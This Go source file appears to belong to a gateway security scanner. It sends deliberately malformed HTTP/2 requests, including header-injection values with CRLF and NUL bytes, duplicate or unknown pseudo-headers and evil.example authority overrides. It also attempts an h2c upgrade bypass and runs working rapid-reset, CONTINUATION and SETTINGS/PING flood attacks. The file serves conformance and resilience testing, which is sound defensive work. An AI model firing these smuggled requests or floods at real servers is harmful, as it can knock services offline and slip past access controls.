package own

import (
	"bytes"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strconv"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"pavise.dev/pavise/internal/attack"
)

// pair is a field of HTTP/2, sent as it stands.
type pair struct{ name, value string }

// stream is a request over HTTP/2 that no client would send.
type stream struct {
	name   string
	change func(fields []pair) []pair
	body   string
	row    int
}

func set(name, value string) func([]pair) []pair {
	return func(fields []pair) []pair {
		for i := range fields {
			if fields[i].name == name {
				fields[i].value = value
				return fields
			}
		}
		return append(fields, pair{name, value})
	}
}

func add(name, value string) func([]pair) []pair {
	return func(fields []pair) []pair { return append(fields, pair{name, value}) }
}

func without(name string) func([]pair) []pair {
	return func(fields []pair) (rest []pair) {
		for _, f := range fields {
			if f.name != name {
				rest = append(rest, f)
			}
		}
		return rest
	}
}

// malformed are requests that a gateway of HTTP/2 must not take (RFC 9113 §8.1.1, §8.2, §8.3).
func malformed() []stream {
	return []stream{
		{name: "transfer-encoding", change: add("transfer-encoding", "chunked")},
		{name: "connection", change: add("connection", "keep-alive")},
		{name: "an upper-case name", change: add("X-User", "1")},
		{name: "a line break in a value", change: add("x-a", "b\r\nx-user: 1")},
		{name: "a line break in a name", change: add("x-a\r\nx-user", "1")},
		{name: "NUL in a value", change: add("x-a", "b\x00c")},
		{name: "a blank in a name", change: add("x a", "b")},
		{name: "a pseudo-header behind others", change: func(f []pair) []pair { return append(without(":path")(f), pair{":path", "/"}) }},
		{name: "a path with blanks", change: set(":path", "/a b HTTP/1.1")},
		{name: "an empty path", change: set(":path", "")},
		{name: "a path with another host", change: set(":path", "//evil.example/")},
		{name: "two paths", change: func(f []pair) []pair { return append([]pair{{":path", "/other"}}, f...) }},
		{name: "two methods", change: func(f []pair) []pair { return append([]pair{{":method", "DELETE"}}, f...) }},
		{name: "a method with blanks", change: set(":method", "GET / HTTP/1.1")},
		{name: "no method", change: without(":method")},
		{name: "the scheme http", change: set(":scheme", "http")},
		{name: "an unknown pseudo-header", change: func(f []pair) []pair { return append([]pair{{":user", "admin"}}, f...) }},
		{name: "a length that is not the body's", change: func(f []pair) []pair { return add("content-length", "3")(set(":method", "POST")(f)) }, body: "abcdef"},
		{name: "a length with a plus", change: add("content-length", "+0")},
		{name: "a blank before a value", change: add("x-a", " b")},
		{name: "te that is not trailers", change: add("te", "gzip")},
		{name: "another host beside the authority", change: add("host", "evil.example"), row: 120},
		{name: "another authority", change: set(":authority", "evil.example"), row: 170},
		{name: "a user in the authority", change: func(f []pair) []pair {
			for i := range f {
				if f[i].name == ":authority" {
					f[i].value = "admin@" + f[i].value
				}
			}
			return f
		}, row: 170},
		{name: "an underscore in a name", change: add("x_user_id", "1"), row: 160},
	}
}

// streams try what only frames can say.
func (p *planner) streams() {
	for _, h := range p.r.hosts {
		for _, one := range malformed() {
			row := one.row
			if row == 0 {
				row = 115
			}
			p.addAt(h, "http2", h.name+": "+one.name, row, 0, func(t *try) error { return t.overHTTP2(h, one) })
		}
		p.addAt(h, "http2", h.name+": an upgrade to h2c", 117, 0, func(t *try) error { return t.h2c(h) })
		p.addAt(h, "http2-flood", h.name+": streams that are reset at once", 116, attack.Floods, func(t *try) error { return t.flood(h, resets) })
		p.addAt(h, "http2-flood", h.name+": headers that never end", 116, attack.Floods, func(t *try) error { return t.flood(h, continuations) })
		p.addAt(h, "http2-flood", h.name+": settings and pings", 116, attack.Floods, func(t *try) error { return t.flood(h, pings) })
	}
}

func (t *try) overHTTP2(h *host, one stream) error {
	demanded := want{code: "bad_request", any: true}
	at, proofs, err := t.entrance(h, false)
	if err != nil {
		return err
	}
	x, err := t.until(demanded, func() (*reply, error) {
		r, _, err := t.signed(at, proofs)
		if err != nil {
			return nil, err
		}
		carry(r, partsOf(proofs))
		fields := []pair{{":method", r.Method}, {":scheme", "https"}, {":path", r.URL.RequestURI()}, {":authority", r.URL.Host}}
		for name, values := range r.Header {
			for _, value := range values {
				fields = append(fields, pair{strings.ToLower(name), value})
			}
		}
		var x *reply
		err = t.s.Prober().Talk(t.ctx, []string{"h2"}, nil, func(conn net.Conn) error {
			x, err = exchange(conn, one.change(fields), one.body)
			return err
		})
		return x, err
	})
	if err != nil {
		return err
	}
	t.judge(t.where(at), x, demanded, one.name+", over HTTP/2")
	return nil
}

// start opens a connection of HTTP/2.
func start(conn net.Conn) (*http2.Framer, error) {
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, fmt.Errorf("begin HTTP/2: %w", err)
	}
	framer := http2.NewFramer(conn, conn)
	framer.AllowIllegalWrites = true
	framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	if err := framer.WriteSettings(); err != nil {
		return nil, fmt.Errorf("begin HTTP/2: %w", err)
	}
	return framer, nil
}

func block(fields []pair) []byte {
	var b bytes.Buffer
	encoder := hpack.NewEncoder(&b)
	for _, f := range fields {
		_ = encoder.WriteField(hpack.HeaderField{Name: f.name, Value: f.value}) // into memory
	}
	return b.Bytes()
}

// exchange sends one request, and reads its answer. A stream or a connection that is ended is a refusal.
func exchange(conn net.Conn, fields []pair, body string) (*reply, error) {
	framer, err := start(conn)
	if err != nil {
		return nil, err
	}
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block(fields), EndStream: body == "", EndHeaders: true}); err != nil {
		return nil, fmt.Errorf("write a request: %w", err)
	}
	if body != "" {
		if err := framer.WriteData(1, true, []byte(body)); err != nil {
			return nil, fmt.Errorf("write a request: %w", err)
		}
	}
	ended := &reply{status: http.StatusBadRequest, code: silent}
	var status int
	var content []byte
	header := http.Header{}
	for {
		frame, err := framer.ReadFrame()
		if timeout, ok := errors.AsType[net.Error](err); ok && timeout.Timeout() {
			return nil, errors.New("the gateway neither answers nor ends the stream")
		}
		if err != nil {
			return ended, nil // it closed the connection
		}
		switch f := frame.(type) {
		case *http2.RSTStreamFrame, *http2.GoAwayFrame:
			return ended, nil
		case *http2.MetaHeadersFrame:
			status, _ = strconv.Atoi(f.PseudoValue("status"))
			for _, h := range f.RegularFields() {
				header.Add(h.Name, h.Value)
			}
		case *http2.DataFrame:
			content = append(content, f.Data()...)
		}
		if head := frame.Header(); head.StreamID == 1 && head.Flags.Has(http2.FlagDataEndStream) && status >= 200 || len(content) > 1<<20 {
			return plainly(read(status, header, content)), nil
		}
	}
}

// h2c asks for HTTP/2 without its handshake (RFC 9113 §3.1 has withdrawn it): a proxy that takes it
// checks no request behind it.
func (t *try) h2c(h *host) error {
	at, proofs, err := t.entrance(h, false)
	if err != nil {
		return err
	}
	r, _, err := t.signed(at, proofs)
	if err != nil {
		return err
	}
	carry(r, partsOf(proofs))
	x, err := t.written(append(text(r, r.URL.RequestURI(), "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), "\r\n"...))
	if err != nil {
		return err
	}
	if x.status == http.StatusSwitchingProtocols {
		t.found(t.s, t.where(at), x, "an upgrade to h2c: it is granted (101)")
	}
	return nil
}

// flood sends frames until the gateway ends the connection, and then asks whether others are served.
func (t *try) flood(h *host, with func(*http2.Framer) error) error {
	at, proofs, err := t.entrance(h, false)
	if err != nil {
		return err
	}
	err = t.s.Prober().Talk(t.ctx, []string{"h2"}, nil, func(conn net.Conn) error {
		framer, err := start(conn)
		if err == nil {
			_ = with(framer) // that it is cut off is what is wanted
		}
		return err
	})
	if err != nil {
		return err
	}
	x, err := t.ask(want{}, nil, func() (*http.Request, error) {
		r, _, err := t.signed(at, proofs)
		if err == nil {
			carry(r, partsOf(proofs))
		}
		return r, err
	})
	if err != nil {
		t.s.FoundBy(t.where(at), "", "after the flood another caller is not served: %v", err)
		return nil
	}
	if !x.passed() && x.status >= 500 {
		t.s.Found(t.where(at), x.answer, "after the flood another caller is answered %s", x)
	}
	return nil
}

// floodFrames is how many frames a flood has.
const floodFrames = 5000

func resets(f *http2.Framer) error {
	head := block([]pair{{":method", "GET"}, {":scheme", "https"}, {":path", "/"}, {":authority", "pavise-attack.example"}})
	for i := range uint32(floodFrames) {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: head, EndHeaders: true, EndStream: true}); err != nil {
			return fmt.Errorf("write frames: %w", err)
		}
		if err := f.WriteRSTStream(2*i+1, http2.ErrCodeCancel); err != nil {
			return fmt.Errorf("write frames: %w", err)
		}
	}
	return nil
}

func continuations(f *http2.Framer) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block([]pair{{":method", "GET"}}), EndStream: true}); err != nil {
		return fmt.Errorf("write frames: %w", err)
	}
	more := block([]pair{{"x-a", strings.Repeat("a", 8<<10)}})
	for range floodFrames / 10 {
		if err := f.WriteContinuation(1, false, more); err != nil {
			return fmt.Errorf("write frames: %w", err)
		}
	}
	return nil
}

func pings(f *http2.Framer) error {
	for range floodFrames {
		if err := errors.Join(f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}), f.WritePing(false, [8]byte{})); err != nil {
			return fmt.Errorf("write frames: %w", err)
		}
	}
	return nil
}
